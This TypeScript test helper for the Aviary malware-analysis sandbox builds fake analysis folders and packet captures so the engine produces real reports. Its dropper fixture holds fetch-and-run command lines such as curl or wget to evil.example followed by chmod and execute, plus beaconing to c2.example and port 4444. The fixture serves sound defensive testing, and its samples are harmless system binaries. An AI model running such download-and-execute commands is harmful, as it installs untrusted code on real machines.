// Analyses to compare, made into real reports by a real service's engine: a sample submitted through
// the API, an analysis folder holding what a guest would have left (the analyzer's behavior.jsonl,
// dropped files with files.json, a dump.pcap), the task marked completed, and Aviary's own pipeline
// processing it into report.json (the same path as a run's). The capture is written here, packet
// by packet (Ethernet, IPv4, UDP DNS answered, a TCP stream with an HTTP exchange): a real guest's
// traffic would need a network namespace per test, and what the comparison reads is the report the
// network module makes of the capture, whichever way the packets got into the file.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import dnsPacket from 'dns-packet'
import type { Harness } from './service-harness'

export const GUEST_IP = '192.168.56.101'
export const RESOLVER = '192.168.56.1'

// ---- a classic pcap, link type Ethernet

function ipv4(src: string, dst: string, proto: number, payload: Buffer): Buffer {
  const h = Buffer.alloc(20)
  h[0] = 0x45
  h.writeUInt16BE(20 + payload.length, 2)
  h[8] = 64
  h[9] = proto
  Buffer.from(src.split('.').map(Number)).copy(h, 12)
  Buffer.from(dst.split('.').map(Number)).copy(h, 16)
  let sum = 0
  for (let i = 0; i < 20; i += 2) sum += h.readUInt16BE(i)
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16)
  h.writeUInt16BE(~sum & 0xffff, 10)
  return Buffer.concat([h, payload])
}

const ether = (ip: Buffer): Buffer => Buffer.concat([Buffer.from('525400000002525400000001' + '0800', 'hex'), ip])

function udp(src: string, sport: number, dst: string, dport: number, data: Buffer): Buffer {
  const h = Buffer.alloc(8)
  h.writeUInt16BE(sport, 0)
  h.writeUInt16BE(dport, 2)
  h.writeUInt16BE(8 + data.length, 4)
  return ether(ipv4(src, dst, 17, Buffer.concat([h, data])))
}

const SYN = 0x02
const ACK = 0x10
const PSH = 0x08
const FIN = 0x01

function tcp(src: string, sport: number, dst: string, dport: number, seq: number, ack: number, flags: number, data = Buffer.alloc(0)): Buffer {
  const h = Buffer.alloc(20)
  h.writeUInt16BE(sport, 0)
  h.writeUInt16BE(dport, 2)
  h.writeUInt32BE(seq >>> 0, 4)
  h.writeUInt32BE(ack >>> 0, 8)
  h[12] = 5 << 4
  h[13] = flags
  h.writeUInt16BE(65535, 14)
  return ether(ipv4(src, dst, 6, Buffer.concat([h, data])))
}

export interface Packet { t: number; data: Buffer }

export function pcapFile(packets: Packet[]): Buffer {
  const head = Buffer.alloc(24)
  head.writeUInt32LE(0xa1b2c3d4, 0)
  head.writeUInt16LE(2, 4)
  head.writeUInt16LE(4, 6)
  head.writeUInt32LE(65535, 16)
  head.writeUInt32LE(1, 20)
  const records = packets.map((p) => {
    const r = Buffer.alloc(16)
    r.writeUInt32LE(Math.floor(p.t), 0)
    r.writeUInt32LE(Math.round((p.t % 1) * 1e6), 4)
    r.writeUInt32LE(p.data.length, 8)
    r.writeUInt32LE(p.data.length, 12)
    return Buffer.concat([r, p.data])
  })
  return Buffer.concat([head, ...records])
}

/** A DNS A query from the guest and its answer. */
export function dnsExchange(t: number, name: string, address: string, id: number): Packet[] {
  const query = dnsPacket.encode({ type: 'query', id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type: 'A', name }] })
  const answer = dnsPacket.encode({ type: 'response', id, flags: dnsPacket.RECURSION_DESIRED | dnsPacket.RECURSION_AVAILABLE,
    questions: [{ type: 'A', name }], answers: [{ type: 'A', name, ttl: 60, data: address }] })
  return [{ t, data: udp(GUEST_IP, 40000 + id, RESOLVER, 53, query) }, { t: t + 0.01, data: udp(RESOLVER, 53, GUEST_IP, 40000 + id, answer) }]
}

/** A TCP connection from the guest: handshake, the request, the answer (if any), and the close. */
export function tcpExchange(t: number, server: string, port: number, sport: number, request: string, response = ''): Packet[] {
  const req = Buffer.from(request)
  const res = Buffer.from(response)
  let c = 1000
  let s = 5000
  const out: Packet[] = [
    { t, data: tcp(GUEST_IP, sport, server, port, c, 0, SYN) },
    { t: t + 0.01, data: tcp(server, port, GUEST_IP, sport, s, c + 1, SYN | ACK) },
    { t: t + 0.02, data: tcp(GUEST_IP, sport, server, port, c + 1, s + 1, ACK) }
  ]
  c++; s++
  out.push({ t: t + 0.03, data: tcp(GUEST_IP, sport, server, port, c, s, PSH | ACK, req) })
  c += req.length
  if (res.length > 0) {
    out.push({ t: t + 0.04, data: tcp(server, port, GUEST_IP, sport, s, c, PSH | ACK, res) })
    s += res.length
  }
  out.push({ t: t + 0.05, data: tcp(GUEST_IP, sport, server, port, c, s, FIN | ACK) })
  out.push({ t: t + 0.06, data: tcp(server, port, GUEST_IP, sport, s, c + 1, FIN | ACK) })
  return out
}

export const httpGet = (host: string, p: string, ua = 'curl/7.88.1'): string =>
  `GET ${p} HTTP/1.1\r\nHost: ${host}\r\nUser-Agent: ${ua}\r\nAccept: */*\r\n\r\n`
export const httpAnswer = (status: number, body: string): string =>
  `HTTP/1.1 ${status} ${status === 200 ? 'OK' : 'Not Found'}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`

// ---- an analysis made into a report

export interface ProcessSpec { pid: number; ppid: number; command_line: string; exe: string }
export interface AnalysisSpec {
  /** The sample's name and bytes. */
  name: string
  sample: Buffer | string
  processes: ProcessSpec[]
  /** Files the run left (guest path → content): uploaded as dropped files. */
  dropped?: Record<string, Buffer | string>
  connections?: { dst: string; dport: number; pid: number }[]
  packets?: Packet[]
  /** Headers of the submission (a token). */
  headers?: Record<string, string>
}

/** multipart/form-data by hand: the jsdom tests' FormData and Blob are not the ones Node's fetch takes. */
async function submit(h: Harness, name: string, content: Buffer, headers: Record<string, string>): Promise<number> {
  const b = '----aviary-compare'
  const body = Buffer.concat([
    Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    content,
    // A platform no machine has: the scheduler leaves it pending for the engine to process.
    Buffer.from(`\r\n--${b}\r\nContent-Disposition: form-data; name="platform"\r\n\r\nnone-here\r\n--${b}--\r\n`)
  ])
  const res = await fetch(`${h.url}/tasks/create/file`, { method: 'POST', body, headers: { 'Content-Type': `multipart/form-data; boundary=${b}`, ...headers } })
  const out = (await res.json()) as { task_id?: number }
  if (typeof out.task_id !== 'number') throw new Error(`submit: ${res.status} ${JSON.stringify(out)}`)
  return out.task_id
}

async function waitStatus(h: Harness, id: number, headers: Record<string, string>, ms = 60_000): Promise<string> {
  const deadline = Date.now() + ms
  for (;;) {
    const { task } = (await (await fetch(`${h.url}/tasks/view/${id}`, { headers })).json()) as { task: { status: string } }
    if (task.status === 'reported' || task.status.startsWith('failed') || Date.now() > deadline) return task.status
    await new Promise((r) => setTimeout(r, 100))
  }
}

/** Submits the sample, leaves the run's files in its analysis folder, and waits for the engine's report. */
export async function reportedAnalysis(h: Harness, spec: AnalysisSpec): Promise<number> {
  const headers = spec.headers ?? {}
  const id = await submit(h, spec.name, Buffer.isBuffer(spec.sample) ? spec.sample : Buffer.from(spec.sample), headers)
  const dir = h.analysisDir(id)
  const now = Date.now()
  const records: unknown[] = [{ type: 'analyzer', version: 1, task: String(id), package: 'generic', platform: 'linux', category: 'file',
    target: `/tmp/${spec.name}`, pid: spec.processes[0]?.pid ?? null, started: now, ended: now + 2000, reason: 'tree-ended', monitors: ['proc', 'files'] }]
  spec.processes.forEach((p, i) => records.push({ type: 'process', ...p, first_seen: now + i * 10, exited: now + 1500 }))
  const files: string[] = []
  Object.entries(spec.dropped ?? {}).forEach(([guestPath, content], i) => {
    const rel = `files/${String(i).padStart(16, '0')}_${path.posix.basename(guestPath)}`
    mkdirSync(path.join(dir, 'files'), { recursive: true })
    writeFileSync(path.join(dir, rel), content)
    files.push(JSON.stringify({ path: rel, filepath: guestPath, pids: [spec.processes[spec.processes.length - 1]?.pid ?? 0] }))
    records.push({ type: 'file', op: 'written', path: guestPath, time: now + 100 + i, pid: spec.processes[spec.processes.length - 1]?.pid })
  })
  for (const c of spec.connections ?? []) records.push({ type: 'connection', proto: 'tcp', src: GUEST_IP, sport: 50000, dst: c.dst, dport: c.dport, pid: c.pid, time: now + 200 })
  mkdirSync(path.join(dir, 'logs'), { recursive: true })
  writeFileSync(path.join(dir, 'logs/behavior.jsonl'), records.map((r) => JSON.stringify(r)).join('\n') + '\n')
  if (files.length > 0) writeFileSync(path.join(dir, 'files.json'), files.join('\n') + '\n')
  if (spec.packets) writeFileSync(path.join(dir, 'dump.pcap'), pcapFile(spec.packets))
  const marked = h.sql("UPDATE tasks SET status = 'completed', started_on = datetime('now', 'localtime'), completed_on = datetime('now', 'localtime') WHERE id = ? AND status = 'pending'", id)
  if (marked.changes !== 1) throw new Error(`task ${id} was not pending`)
  h.service.engine!.processPending()
  const status = await waitStatus(h, id, headers)
  if (status !== 'reported') throw new Error(`task ${id} ended ${status}`)
  return id
}

// ---- two runs of a dropper, as the Compare tests and the e2e use them

/**
 * Version 1 (a copy of /bin/true as the sample: an ELF needing libc) fetches its payload with curl;
 * version 2 (a copy of /bin/ls: libc and libselinux) with wget from another URL, resolves a second
 * domain and then calls a hard-coded address. Both drop the same payload (a copy of /bin/echo) at
 * the same place; version 2 also leaves a note.
 */
export function dropperRuns(headers?: { a?: Record<string, string>; b?: Record<string, string> }): { a: AnalysisSpec; b: AnalysisSpec } {
  const t = Date.now() / 1000
  const payload = readFileSync('/bin/echo')
  const a: AnalysisSpec = {
    name: 'dropper', sample: readFileSync('/bin/true'), headers: headers?.a,
    processes: [
      { pid: 100, ppid: 1, command_line: '/tmp/dropper', exe: '/tmp/dropper' },
      { pid: 101, ppid: 100, command_line: 'curl -s http://evil.example/payload -o /tmp/payload', exe: '/usr/bin/curl' },
      { pid: 102, ppid: 100, command_line: 'sh -c chmod +x /tmp/payload && /tmp/payload', exe: '/bin/sh' },
      { pid: 103, ppid: 102, command_line: '/tmp/payload', exe: '/tmp/payload' }
    ],
    dropped: { '/tmp/payload': payload },
    connections: [{ dst: '93.184.216.34', dport: 80, pid: 101 }],
    packets: [
      ...dnsExchange(t, 'evil.example', '93.184.216.34', 1),
      ...tcpExchange(t + 0.1, '93.184.216.34', 80, 50001, httpGet('evil.example', '/payload'), httpAnswer(200, 'payload bytes'))
    ]
  }
  const b: AnalysisSpec = {
    name: 'dropper', sample: readFileSync('/bin/ls'), headers: headers?.b,
    processes: [
      { pid: 200, ppid: 1, command_line: '/tmp/dropper --quiet', exe: '/tmp/dropper' },
      { pid: 201, ppid: 200, command_line: 'wget -q http://evil.example/payload2 -O /tmp/payload', exe: '/usr/bin/wget' },
      { pid: 202, ppid: 200, command_line: 'sh -c chmod +x /tmp/payload && /tmp/payload', exe: '/bin/sh' },
      { pid: 203, ppid: 202, command_line: '/tmp/payload', exe: '/tmp/payload' }
    ],
    dropped: { '/tmp/payload': payload, '/tmp/.cache/notes.txt': 'next=45.33.32.156:4444\n' },
    connections: [{ dst: '93.184.216.34', dport: 80, pid: 201 }, { dst: '45.33.32.156', dport: 4444, pid: 203 }],
    packets: [
      ...dnsExchange(t, 'evil.example', '93.184.216.34', 1),
      ...dnsExchange(t + 0.05, 'c2.example', '104.16.1.1', 2),
      ...tcpExchange(t + 0.1, '93.184.216.34', 80, 50001, httpGet('evil.example', '/payload2', 'Wget/1.21.3'), httpAnswer(404, 'none')),
      ...tcpExchange(t + 0.3, '45.33.32.156', 4444, 50002, 'HELLO\n', 'OK\n')
    ]
  }
  return { a, b }
}
